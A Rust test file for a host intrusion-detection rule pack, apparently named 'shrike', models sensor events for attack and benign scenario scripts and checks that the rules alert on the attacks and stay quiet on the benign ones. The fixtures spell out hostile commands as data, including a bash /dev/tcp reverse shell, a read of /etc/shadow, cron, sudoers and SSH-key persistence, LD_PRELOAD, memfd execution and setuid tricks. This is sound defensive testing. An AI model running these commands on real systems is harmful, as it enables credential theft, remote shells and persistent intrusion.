//! The default pack against the scenario scripts of `tests/scenarios/`: for each script, the
//! events the sensors will emit while it runs (built by hand from the event contract), and what
//! the manifest expects: an alert carrying the scenario's technique (or its parent) for `alert`
//! rows, nothing at all for `none` rows. Every alerting event must also pass the kernel plan's
//! first-stage filter, or the alert could never happen.

mod common;

use std::collections::BTreeMap;

use common::*;
use shrike_event::{Event, EventKind};
use shrike_rules::Policy;

/// What one scenario script does, as events.
fn scenario_events(name: &str) -> Vec<Event> {
    let sh = scenario_shell(&format!("{name}.sh"));
    let script = sh[0].clone();
    let kids = child_of(&script, &sh[1..]);
    let pid = script.pid;
    match name {
        "cred-shadow-read" => {
            let cat = process("/usr/bin/cat", &["cat", "/etc/shadow"]);
            vec![
                exec(&cat, &kids),
                open(&cat, &kids, "/etc/ld.so.cache", &["read"]),
                open(&cat, &kids, "/etc/shadow", &["read"]),
            ]
        }
        "reverse-shell-devtcp" => {
            let port = 20000 + (pid % 20000) as u16;
            let listener = process("/usr/bin/python3.11", &["python3", "-", &port.to_string()]);
            let cmd = format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
            let outer = process("/usr/bin/bash", &["bash", "-c", &cmd]);
            let outer_kids = child_of(&outer, &kids);
            let inner = stdio_tcp(process("/usr/bin/bash", &["bash", "-i"]), "127.0.0.1", port);
            let mut accept = connect(&listener, &kids, "127.0.0.1", 40000);
            accept.kind = EventKind::NetAccept;
            vec![
                exec(&listener, &kids),
                exec(&outer, &kids),
                connect(&outer, &kids, "127.0.0.1", port),
                accept,
                exec(&inner, &outer_kids),
            ]
        }
        "exec-from-dev-shm" => {
            let f = format!("/dev/shm/.x{pid}");
            let cp = process("/usr/bin/cp", &["cp", "/bin/true", &f]);
            let dropped = process(&f, &[&f]);
            let rm = process("/usr/bin/rm", &["rm", "-f", &f]);
            vec![
                exec(&cp, &kids),
                open(&cp, &kids, "/usr/bin/true", &["read"]),
                open(&cp, &kids, &f, WRITE_NEW),
                exec(&dropped, &kids),
                exec(&rm, &kids),
                unlink(&rm, &kids, &f),
            ]
        }
        "cron-persistence" => {
            let f = format!("/etc/cron.d/zz-scenario-{pid}");
            let mkdir = process("/usr/bin/mkdir", &["mkdir", "-p", "/etc/cron.d"]);
            let rm = process("/usr/bin/rm", &["rm", "-f", &f]);
            vec![
                exec(&mkdir, &kids),
                open(&script, &sh[1..], &f, WRITE_NEW),
                exec(&rm, &kids),
                unlink(&rm, &kids, &f),
            ]
        }
        "ssh-authorized-keys" => {
            let f = "/root/.ssh/authorized_keys";
            let bak = format!("{f}.scenario-bak");
            let cp = process("/usr/bin/cp", &["cp", "-p", f, &bak]);
            let mv = process("/usr/bin/mv", &["mv", &bak, f]);
            vec![
                exec(&cp, &kids),
                open(&cp, &kids, f, &["read"]),
                open(&cp, &kids, &bak, WRITE_NEW),
                chmod(&cp, &kids, &bak, 0o100600),
                open(&script, &sh[1..], f, &["write", "create"]),
                exec(&mv, &kids),
                rename(&mv, &kids, &bak, f),
            ]
        }
        "sudoers-dropin" => {
            let f = format!("/etc/sudoers.d/zz-scenario-{pid}");
            let rm = process("/usr/bin/rm", &["rm", "-f", &f]);
            vec![
                open(&script, &sh[1..], &f, WRITE_NEW),
                exec(&rm, &kids),
                unlink(&rm, &kids, &f),
            ]
        }
        "ld-preload-env" => {
            let lib = format!("/tmp/.scenario-{pid}.so");
            let mut t = process("/usr/bin/true", &["/bin/true"]);
            t.set_env_var("LD_PRELOAD", lib.clone());
            let rm = process("/usr/bin/rm", &["rm", "-f", &lib]);
            vec![
                open(&script, &sh[1..], &lib, WRITE_NEW),
                exec(&t, &kids),
                exec(&rm, &kids),
                unlink(&rm, &kids, &lib),
            ]
        }
        "fileless-memfd-exec" => {
            let py = process("/usr/bin/python3.11", &["python3", "-"]);
            let py_kids = child_of(&py, &kids);
            let mut x = with_comm(process("/memfd:x (deleted)", &["x"]), "3");
            x.binary_memfd = true;
            x.binary_deleted = true;
            vec![
                exec(&py, &kids),
                memfd_create(&py, &kids, "x"),
                open(&py, &kids, "/usr/bin/true", &["read"]),
                exec(&x, &py_kids),
            ]
        }
        "kernel-module-load" => {
            let m = format!("/tmp/.scenario-{pid}.ko");
            let head = process("/usr/bin/head", &["head", "-c", "4096", "/dev/urandom"]);
            let py = process("/usr/bin/python3.11", &["python3", "-", &m]);
            vec![
                exec(&head, &kids),
                open(&script, &sh[1..], &m, WRITE_NEW),
                exec(&py, &kids),
                open(&py, &kids, &m, &["read"]),
                module_load(&py, &kids, Some(&m), -8),
            ]
        }
        "setuid-bit-set" => {
            let f = format!("/tmp/.scenario-{pid}");
            let cp = process("/usr/bin/cp", &["cp", "/bin/sh", &f]);
            let ch = process("/usr/bin/chmod", &["chmod", "u+s", &f]);
            vec![
                exec(&cp, &kids),
                open(&cp, &kids, &f, WRITE_NEW),
                exec(&ch, &kids),
                chmod(&ch, &kids, &f, 0o104755),
            ]
        }
        "ptrace-attach" => {
            let sleep = process("/usr/bin/sleep", &["sleep", "5"]);
            let py = process(
                "/usr/bin/python3.11",
                &["python3", "-", &sleep.pid.to_string()],
            );
            vec![
                exec(&sleep, &kids),
                exec(&py, &kids),
                ptrace(&py, &kids, "PTRACE_ATTACH", &sleep),
                ptrace(&py, &kids, "PTRACE_DETACH", &sleep),
            ]
        }
        "log-truncate" => {
            let f = format!("/var/log/scenario-{pid}.log");
            let tr = process("/usr/bin/truncate", &["truncate", "-s", "0", &f]);
            let rm = process("/usr/bin/rm", &["rm", "-f", &f]);
            vec![
                open(&script, &sh[1..], &f, WRITE_NEW),
                exec(&tr, &kids),
                open(&tr, &kids, &f, &["write", "create"]),
                exec(&rm, &kids),
                unlink(&rm, &kids, &f),
            ]
        }
        "benign-build" => benign_build(&script, &sh, &kids),
        "benign-admin" => benign_admin(&script, &sh, &kids),
        other => panic!("no event model for scenario {other}: add one to tests/scenarios.rs"),
    }
}

fn benign_build(
    script: &shrike_event::Process,
    sh: &[shrike_event::Process],
    kids: &[shrike_event::Process],
) -> Vec<Event> {
    let d = "/tmp/tmp.Ab3dE9xQ";
    let mut out = vec![
        exec(&process("/usr/bin/mktemp", &["mktemp", "-d"]), kids),
        open(script, &sh[1..], &format!("{d}/hello.c"), WRITE_NEW),
    ];
    // cc is a symlink to the versioned gcc driver: comm "cc", a different binary.
    let cc = with_comm(
        process(
            "/usr/bin/x86_64-linux-gnu-gcc-12",
            &["cc", "-O2", "-o", "hello", "hello.c"],
        ),
        "cc",
    );
    let cc_kids = child_of(&cc, kids);
    let cc1 = process(
        "/usr/libexec/gcc/x86_64-linux-gnu/12/cc1",
        &["/usr/libexec/gcc/x86_64-linux-gnu/12/cc1", "hello.c"],
    );
    let as_ = with_comm(
        process(
            "/usr/bin/x86_64-linux-gnu-as",
            &["as", "--64", "-o", "/tmp/ccQ2x1.o", "/tmp/ccA7b2.s"],
        ),
        "as",
    );
    let collect2 = process(
        "/usr/libexec/gcc/x86_64-linux-gnu/12/collect2",
        &["collect2", "-o", "hello"],
    );
    let ld = with_comm(
        process(
            "/usr/bin/x86_64-linux-gnu-ld.bfd",
            &["/usr/bin/ld", "-o", "hello"],
        ),
        "ld",
    );
    let c2_kids = child_of(&collect2, &cc_kids);
    out.extend([
        exec(&cc, kids),
        exec(&cc1, &cc_kids),
        open(&cc1, &cc_kids, &format!("{d}/hello.c"), &["read"]),
        open(&cc1, &cc_kids, "/tmp/ccA7b2.s", WRITE_NEW),
        exec(&as_, &cc_kids),
        open(&as_, &cc_kids, "/tmp/ccQ2x1.o", WRITE_NEW),
        exec(&collect2, &cc_kids),
        exec(&ld, &c2_kids),
        open(&ld, &c2_kids, &format!("{d}/hello"), WRITE_NEW),
        chmod(&ld, &c2_kids, &format!("{d}/hello"), 0o100755),
        unlink(&cc, kids, "/tmp/ccA7b2.s"),
        unlink(&cc, kids, "/tmp/ccQ2x1.o"),
    ]);
    let mut hello = process(&format!("{d}/hello"), &["./hello"]);
    hello.cwd = d.into();
    out.push(exec(&hello, kids));
    let git = process("/usr/bin/git", &["git", "init", "-q", "repo"]);
    out.extend([
        exec(&git, kids),
        open(&git, kids, &format!("{d}/repo/.git/config"), WRITE_NEW),
        open(
            &git,
            kids,
            &format!("{d}/repo/.git/hooks/pre-commit.sample"),
            WRITE_NEW,
        ),
        chmod(
            &git,
            kids,
            &format!("{d}/repo/.git/hooks/pre-commit.sample"),
            0o100755,
        ),
        exec(&process("/usr/bin/cp", &["cp", "../hello.c", "."]), kids),
        exec(&process("/usr/bin/git", &["git", "add", "hello.c"]), kids),
        open(&git, kids, &format!("{d}/repo/.git/index.lock"), WRITE_NEW),
        rename(
            &git,
            kids,
            &format!("{d}/repo/.git/index.lock"),
            &format!("{d}/repo/.git/index"),
        ),
    ]);
    let commit = process(
        "/usr/bin/git",
        &[
            "git",
            "-c",
            "user.email=a@b",
            "-c",
            "user.name=n",
            "commit",
            "-q",
            "-m",
            "init",
        ],
    );
    out.extend([
        exec(&commit, kids),
        open(&commit, kids, "/root/.gitconfig", &["read"]),
        open(
            &commit,
            kids,
            &format!("{d}/repo/.git/COMMIT_EDITMSG"),
            WRITE_NEW,
        ),
    ]);
    let tar = process("/usr/bin/tar", &["tar", "czf", "repo.tgz", "repo"]);
    let gzip = process("/usr/bin/gzip", &["gzip"]);
    out.extend([
        exec(&tar, kids),
        exec(&gzip, &child_of(&tar, kids)),
        open(&tar, kids, &format!("{d}/repo.tgz"), WRITE_NEW),
        exec(&process("/usr/bin/rm", &["rm", "-rf", d]), kids),
        unlink(
            &process("/usr/bin/rm", &["rm"]),
            kids,
            &format!("{d}/hello"),
        ),
    ]);
    out
}

fn benign_admin(
    script: &shrike_event::Process,
    sh: &[shrike_event::Process],
    kids: &[shrike_event::Process],
) -> Vec<Event> {
    let ps = process("/usr/bin/ps", &["ps", "aux"]);
    let cat = process(
        "/usr/bin/cat",
        &["cat", "/etc/passwd", "/etc/hostname", "/proc/loadavg"],
    );
    let id = process("/usr/bin/id", &["id", "root"]);
    let df = process("/usr/bin/df", &["df", "-h"]);
    let d = "/tmp/tmp.Zz9yX8wV";
    let mv = process("/usr/bin/mv", &["mv", "app.log", "app.log.1"]);
    let rm = process("/usr/bin/rm", &["rm", "-rf", d]);
    vec![
        exec(&ps, kids),
        open(&ps, kids, "/proc/1/stat", &["read"]),
        open(&ps, kids, "/proc/1/cmdline", &["read"]),
        open(&ps, kids, "/etc/passwd", &["read"]),
        exec(&cat, kids),
        open(&cat, kids, "/etc/passwd", &["read"]),
        open(&cat, kids, "/etc/hostname", &["read"]),
        open(&cat, kids, "/proc/loadavg", &["read"]),
        exec(&id, kids),
        open(&id, kids, "/etc/nsswitch.conf", &["read"]),
        open(&id, kids, "/etc/passwd", &["read"]),
        open(&id, kids, "/etc/group", &["read"]),
        exec(&df, kids),
        open(&df, kids, "/proc/self/mountinfo", &["read"]),
        exec(&process("/usr/bin/mktemp", &["mktemp", "-d"]), kids),
        open(script, &sh[1..], &format!("{d}/app.log"), WRITE_NEW),
        exec(&mv, kids),
        rename(
            &mv,
            kids,
            &format!("{d}/app.log"),
            &format!("{d}/app.log.1"),
        ),
        exec(&rm, kids),
        unlink(&rm, kids, &format!("{d}/app.log.1")),
    ]
}

/// The manifest's rows: (name, technique, expect), from the repository's vendored copy
/// (`tests/scenarios/manifest.tsv`; its checksum and, when `shared/` is beside the repository,
/// its equality with the original are checked by `crates/shrike/tests/scenarios.rs`).
fn manifest() -> Vec<(String, String, String)> {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../tests/scenarios/manifest.tsv"
    );
    let text = std::fs::read_to_string(path)
        .unwrap_or_else(|e| panic!("reading the vendored scenario manifest {path}: {e}"));
    text.lines()
        .skip(1)
        .filter(|l| !l.trim().is_empty())
        .map(|l| {
            let cols: Vec<&str> = l.split('\t').collect();
            assert_eq!(cols.len(), 3, "manifest row {l:?}");
            (
                cols[0].to_string(),
                cols[1].to_string(),
                cols[2].to_string(),
            )
        })
        .collect()
}

/// `T1059.004` is covered by `T1059.004` or its parent `T1059`, and the other way round a
/// rule tagged with the sub-technique covers a manifest row naming the parent.
fn covers(rule_mitre: &[String], technique: &str) -> bool {
    let parent = |t: &str| t.split('.').next().unwrap_or(t).to_string();
    rule_mitre
        .iter()
        .any(|m| m == technique || parent(m) == technique || *m == parent(technique))
}

/// Each `alert` scenario raises an alert with its technique, from an event of the scenario's
/// own processes, that the kernel's first-stage filter lets through; each `none` scenario
/// raises nothing.
#[test]
fn default_pack_detects_every_alert_scenario_and_stays_quiet_on_benign_ones() {
    let policy = Policy::default_pack().expect("default pack compiles");
    let plan = policy.kernel_plan();
    let rows = manifest();
    assert!(
        rows.iter().any(|(_, _, e)| e == "alert") && rows.iter().any(|(_, _, e)| e == "none"),
        "the manifest must have attack and benign rows: {rows:?}"
    );
    let mut table = BTreeMap::new();
    for (name, technique, expect) in &rows {
        let events = scenario_events(name);
        let mut hits = Vec::new();
        for e in &events {
            let matches = policy.evaluate(e);
            if !matches.is_empty() {
                assert!(
                    plan.admits(e),
                    "{name}: kernel filter would drop an alerting event: {e:?}"
                );
            }
            for m in matches {
                hits.push((m.rule_id.to_string(), m.mitre.to_vec()));
            }
        }
        match expect.as_str() {
            "alert" => assert!(
                hits.iter().any(|(_, mitre)| covers(mitre, technique)),
                "{name}: no alert with {technique}; got {hits:?}"
            ),
            "none" => assert!(hits.is_empty(), "{name}: expected no alert, got {hits:?}"),
            other => panic!("unknown expectation {other}"),
        }
        table.insert(
            name.clone(),
            hits.into_iter().map(|(id, _)| id).collect::<Vec<_>>(),
        );
    }
    for (name, ids) in &table {
        println!(
            "{name:<22} {}",
            if ids.is_empty() {
                "-".to_string()
            } else {
                ids.join(" ")
            }
        );
    }
}

/// Rules describe behaviour: no rule text mentions a scenario script's file names or strings.
#[test]
fn pack_does_not_match_scenario_strings() {
    for (name, text) in shrike_rules::pack::DEFAULT_PACK {
        for needle in ["scenario", "/dev/shm/.x", "zz-", ".ko\"", "AAAAC3"] {
            assert!(!text.contains(needle), "{name} contains {needle:?}");
        }
    }
}
